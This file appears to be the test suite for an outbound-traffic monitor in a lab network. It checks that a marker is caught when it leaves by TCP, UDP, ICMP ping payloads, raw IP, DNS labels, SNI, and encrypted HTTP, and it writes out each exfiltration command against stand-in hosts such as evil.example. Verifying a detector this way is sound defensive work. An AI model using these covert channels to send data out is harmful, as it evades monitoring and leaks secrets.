/**
 * The far end's verdict can be trusted: a marker is seen whichever way it leaves, and the sink refuses to say "no" when
 * it lost something. Tests of the product assert that a marker was not seen; these assert that it would have been.
 */
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { Lab } from "./lab.ts";
import type { Sighting } from "./sink.ts";

let lab: Lab;

before(async () => {
  lab = await Lab.create({ forwarding: true, routeInside: true });
});
after(() => lab?.close());

/** Sends a fresh marker by a shell script in the runner (`$M`, hex in `$H`) and returns where it was seen. */
async function send(script: string, marker = lab.marker()): Promise<Sighting[]> {
  assert.equal(await lab.sink.saw(marker, { settleMs: 0 }), false);
  const env = { M: marker, H: Buffer.from(marker).toString("hex") };
  await lab.runner(1).exec("sh", ["-c", script], { env });
  return lab.sink.find(marker);
}

const witnesses = (sightings: Sighting[]): string[] => [...new Set(sightings.map(({ witness }) => witness))].toSorted();

for (const [family, address] of [
  ["4", "203.0.113.66"],
  ["6", "2001:db8:200::66"],
] as const) {
  test(`over IPv${family}: TCP, UDP, ICMP and an unknown protocol`, async () => {
    const brackets = family === "6" ? `[${address}]` : address;
    const ways: Record<string, string> = {
      tcp: `printf %s "$M" | ncat --send-only -w 2 ${address} 9000`,
      udp: `printf %s "$M" | ncat -u --send-only -w 1 ${address} 9999`,
      [family === "4" ? "icmp" : "icmpv6"]: `ping -c 1 -W 1 -s 64 -p "$H" ${address}`,
      "ip-253": `printf %s "$M" | socat -u - IP${family}-SENDTO:${brackets}:253`,
    };
    for (const [protocol, script] of Object.entries(ways)) {
      const [seen] = await send(script);
      assert.ok(seen?.witness === "wire", `${protocol} was not seen`);
      assert.deepEqual([seen.protocol, seen.destination], [protocol, address]);
    }
  });

  test(`over IPv${family}: in fragments, at their border`, async () => {
    // The pattern repeats every 16 bytes, so a copy lies across the border of each fragment; the filler has no other.
    const sightings = await send(`ping -c 1 -W 1 -s 4000 -p "$H" ${address}`);
    assert.ok(sightings.some((seen) => seen.witness === "wire"));
  });
}

test("one byte per segment", async () => {
  const dribble = `
    const socket = require("net").connect(9000, "203.0.113.66", async () => {
      socket.setNoDelay(true);
      for (const character of process.env.M) {
        socket.write(character);
        await new Promise((resolve) => setTimeout(resolve, 3));
      }
      socket.destroy();
    });`;
  const [seen] = await send(`exec ${process.execPath} -e '${dribble}'`);
  assert.ok(seen?.witness === "wire");
  assert.equal(seen.where, "stream");
});

test("in the labels of DNS names: plain, hex, and base32 over several labels", async () => {
  const ways = [
    'dig +tries=1 +short "$M.evil.example"',
    'dig +tries=1 +short "x$H.evil.example" TXT',
    'dig +tries=1 +tcp +short "$(printf "ab%s" "$M" | base32 | tr -d = | fold -w 9 | paste -sd.).evil.example" NULL',
  ];
  for (const script of ways) assert.ok(witnesses(await send(script)).includes("dns"), script);
});

test("in an SNI, in a Host, and encrypted in a request's header and body", async () => {
  assert.deepEqual(witnesses(await send('curl -sk --connect-to "::203.0.113.66:443" "https://$M.example/"')), [
    "server",
    "wire",
  ]);
  assert.ok(witnesses(await send('curl -s -H "Host: $M" http://203.0.113.66/')).includes("wire"));
  assert.deepEqual(witnesses(await send('curl -s -H "X-Data: $M" https://evil.example/')), ["server"]);
  assert.deepEqual(witnesses(await send('curl -s -d "$M" https://evil.example/')), ["server"]);
});

test("encrypted and no HTTP at all", async () => {
  const script = '(printf "%s\\r\\n\\r\\n" "$M"; sleep 0.3) | openssl s_client -quiet -connect 203.0.113.66:443';
  assert.deepEqual(witnesses(await send(script)), ["server"]);
});

test("at any address and port, though nothing listens there", async () => {
  const sightings = await send('printf %s "$M" | ncat -u --send-only -w 1 8.8.4.4 31337');
  assert.deepEqual(
    sightings.map((seen) => (seen.witness === "wire" ? [seen.destination, seen.destinationPort] : [])),
    [["8.8.4.4", 31_337]],
  );
});

test("packets are counted by 5-tuple", async () => {
  await lab.sink.clear();
  await lab.runner(1).exec("ncat", ["-u", "--send-only", "-w", "1", "203.0.113.91", "9100"], { input: "12345" });
  await lab.runner(1).exec("ncat", ["--send-only", "-w", "1", "203.0.113.90", "9"]);
  const [datagram] = await lab.sink.packets({ protocol: "udp", destinationPort: 9100 });
  assert.deepEqual([datagram?.packets, datagram?.bytes, datagram?.source], [1, 5, "10.20.1.2"]);
  const [refused] = await lab.sink.packets({ protocol: "tcp", destination: "203.0.113.90", destinationPort: 9 });
  assert.deepEqual([refused?.packets, refused?.syns], [1, 1]);
  await lab.sink.clear();
  assert.deepEqual(await lab.sink.packets({ protocol: "udp" }), []);
});

test("what stays inside is not seen", async () => {
  const marker = lab.marker();
  const { v4 } = lab.inside(1).gateway;
  await lab.runner(1).exec("ncat", ["-u", "--send-only", "-w", "1", v4, "9999"], { input: marker });
  assert.equal(await lab.sink.saw(marker), false);
});

test("after more than it can keep, the sink does not say no", async () => {
  await lab.runner(1).exec("sh", ["-c", "head -c 70000000 /dev/zero | curl -s -T - http://203.0.113.66/"]);
  await assert.rejects(lab.sink.saw(lab.marker()), /cannot tell/);
  await lab.sink.clear();
  assert.equal(await lab.sink.saw(lab.marker()), false);
});
